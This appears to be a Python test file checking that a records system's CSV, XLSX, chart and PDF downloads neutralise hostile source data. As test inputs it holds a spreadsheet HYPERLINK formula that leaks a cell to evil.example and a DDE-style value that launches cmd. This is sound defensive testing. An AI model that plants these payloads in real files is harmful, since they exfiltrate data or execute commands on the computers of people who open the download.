"""Hostile source data in the downloads people open (acceptance probe, both backends).

An agency's records are untrusted: a name, an instansi or a region may carry a spreadsheet formula
(``=``, ``+``, ``-``, ``@``, tab, CR at the start), control characters a workbook cannot hold, dollar
signs a chart library reads as mathematics, or one word longer than a page. Every download a
person makes of such data must open as the text the source sent (a formula stays text) and must
never fail (no 500).
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from typing import Any

from openpyxl import load_workbook
from sqlalchemy import update

from sbt_sync.db.models import AsnRegistryEntry, AuditEntry, BlockState, Case, QuarantinedRow
from sbt_sync.imut.elections import load_election_calendar
from sbt_sync.imut.store import evaluate_findings
from sbt_sync.imut.workdays import load_working_days
from tests.console.conftest import NIP_A, World
from tests.console.letters_world import compliance_facts
from tests.imut.builders import ingest, payload

XLSX_DOWNLOADS = (
    "/quarantine.xlsx",
    "/audit.xlsx",
    "/reports/compliance?format=xlsx",
    "/imut/report?format=xlsx",
)

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")'


def _imut_findings(world: World, *officials: str) -> None:
    """One I-MUT action per official's name (each a finding: a replacement without approval)."""
    ingest(world.database, *(payload(n, pejabatPenetapNama=name) for n, name in enumerate(officials, 1)))
    with world.database.session() as session:
        evaluate_findings(
            session,
            elections=load_election_calendar(),
            workdays=load_working_days(),
            as_of=date(2024, 11, 27),
        )


def _cells(body: bytes) -> list[str]:
    text = body.decode("utf-8-sig")
    lines = [line for line in text.splitlines(keepends=True) if not line.startswith("# ")]
    return [cell for row in csv.reader(io.StringIO("".join(lines))) for cell in row]


def test_an_imut_csv_never_hands_a_spreadsheet_a_formula_from_the_source(world: World) -> None:
    _imut_findings(world, HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+62-812-0000")
    steward = world.login("steward")
    seen: list[str] = []
    for which in ("regions", "instansi", "officials"):
        response = steward.get(f"/imut/report?format=csv&table={which}")
        assert response.status_code == 200, response.text
        cells = _cells(response.content)
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)], (which, cells)
        seen += cells
    # the names are still there, whole, as text
    assert "'" + HYPERLINK in seen and "'@SUM(1+1)*cmd|' /C calc'!A0" in seen and "'+62-812-0000" in seen


CONTROL = "Budi\x01 Santoso\x0b\x1b[31m\x07 S.Pd."
"""A name as a broken export or a terminal escape leaves it: characters an XLSX cell cannot hold."""
SHOWN = "Budi\ufffd Santoso\ufffd\ufffd[31m\ufffd S.Pd."
"""The same name in a workbook: each such character is the replacement mark, the rest unchanged."""


def _workbook_texts(response: Any) -> list[str]:
    assert response.status_code == 200, response.text[:300]
    book = load_workbook(io.BytesIO(response.content))
    rows = [row for sheet in book.worksheets for row in sheet.iter_rows(values_only=True)]
    return [str(c) for row in rows for c in row if c]


def test_control_characters_in_source_text_reach_every_xlsx_download_as_a_mark_never_a_500(
    world: World,
) -> None:
    with world.database.session() as session:
        session.execute(update(QuarantinedRow).values(value=CONTROL))
        session.add(AuditEntry(actor_name="steward", action="conflict.claim", object_type="conflict",
                               object_id="1", reason=CONTROL, at=datetime.now(UTC)))  # fmt: skip
    compliance_facts(world.database, kasn_case=world.ids["case_a"], bkn_case=world.ids["case_b"], nip=NIP_A)
    with world.database.session() as session:
        session.execute(update(AsnRegistryEntry).values(instansi_name=CONTROL))
    _imut_findings(world, CONTROL)
    steward = world.login("steward")
    for url in XLSX_DOWNLOADS:
        texts = _workbook_texts(steward.get(url))
        assert any(SHOWN in t for t in texts), (url, texts)
    # a filter typed with one lands in the audit workbook's title: the same mark, not a 500
    assert any("\ufffd" in t for t in _workbook_texts(steward.get("/audit.xlsx?actor=%07")))
    # the CSVs keep the exact text
    assert CONTROL in steward.get("/quarantine.csv").content.decode("utf-8-sig")


def test_a_kanreg_written_like_mathematics_is_drawn_as_text_on_the_recap_png(world: World) -> None:
    # The registry's kanregId is free text: a blocked ASN's Kanreg labels a bar of the chart.
    with world.database.session() as session:
        session.execute(update(Case).where(Case.id == world.ids["case_a"]).values(kanreg_id="$x^$ \\b"))
        session.add(BlockState(nip=NIP_A, blocked=True, case_ids=[world.ids["case_a"]], reason="test"))
    response = world.login("viewer").get("/recap.png")
    assert response.status_code == 200, response.text[:300]
    assert response.content.startswith(b"\x89PNG\r\n\x1a\n")


def test_a_word_longer_than_the_page_wraps_in_the_compliance_pdf(world: World) -> None:
    # An instansi name with no space in it (a pasted identifier, a broken export), wider than A4.
    compliance_facts(world.database, kasn_case=world.ids["case_a"], bkn_case=world.ids["case_b"], nip=NIP_A)
    with world.database.session() as session:
        session.execute(update(AsnRegistryEntry).values(instansi_name="PemerintahKabupaten" + "W" * 230))
    response = world.login("auditor").get("/reports/compliance?format=pdf")
    assert response.status_code == 200, response.text[:300]
    assert response.content.startswith(b"%PDF")
